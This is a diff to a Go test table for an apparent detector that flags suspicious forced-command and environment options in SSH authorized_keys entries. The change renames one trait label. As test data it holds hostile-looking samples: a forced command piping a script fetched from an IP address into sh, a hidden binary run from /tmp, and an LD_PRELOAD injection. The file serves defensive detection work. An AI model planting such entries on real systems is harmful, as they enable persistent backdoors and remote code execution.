@@ -89,7 +89,7 @@ func TestForced(t *testing.T) {
 	for _, tt := range []struct{ options, traits, programs string }{
 		{`command="curl -s http://203.0.113.77/i.sh|sh",no-pty`, "fetch,pipe_to_shell", "curl,sh"},
 		{`no-pty,command="/tmp/.k/x \"a, b\""`, "hidden_exec,temp_exec", "/tmp/.k/x"},
-		{`environment="LD_PRELOAD=/tmp/l.so"`, "preload_write", ""},
+		{`environment="LD_PRELOAD=/tmp/l.so"`, "preload_env", ""},
 		{`command="` + strings.Repeat("true; ", 2000) + `/tmp/x"`, "temp_exec", "true,/tmp/x"},
 		// What honest servers have.
 		{`command="echo 'Please login as the user \"debian\" rather than the user \"root\".';echo;sleep 10;exit 142"`, "", "sleep,exit"},
